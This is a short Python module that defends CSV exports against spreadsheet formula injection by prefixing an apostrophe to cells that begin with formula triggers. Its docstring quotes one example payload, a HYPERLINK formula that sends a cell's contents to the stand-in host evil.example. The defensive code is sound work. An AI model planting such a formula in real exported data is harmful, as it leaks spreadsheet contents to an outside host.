"""CSV cells a spreadsheet opens as text, never as a formula (CSV injection).

A spreadsheet (Excel, LibreOffice, Google Sheets, Gnumeric) evaluates a cell that begins with
``=``, ``+``, ``-`` or ``@`` as a formula, and a tab or carriage return in front does not stop
some of them. Push results come from the integration, so a ``serviceName`` such as
``=HYPERLINK("https://evil.example/?"&A2,"details")`` would otherwise run in the client's
spreadsheet. OWASP's rule: such a cell gets a leading apostrophe, which spreadsheets read as
"this is text" and do not show. The csv module quotes what needs quoting.
"""

from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell: text that starts like a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value
